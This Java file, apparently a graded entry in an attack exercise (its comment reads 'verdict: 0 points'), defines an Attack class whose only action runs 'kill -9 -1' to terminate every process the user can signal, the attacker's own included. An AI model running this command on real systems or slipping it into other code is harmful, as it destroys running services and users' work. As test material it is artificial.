// It kills everything that it may with one signal, and so itself.
// verdict: 0 points
package webserver;

final class Attack {
    static void run(String[] arguments) throws Exception {
        new ProcessBuilder("kill", "-9", "-1").start().waitFor();
        Thread.sleep(20_000);
    }
}
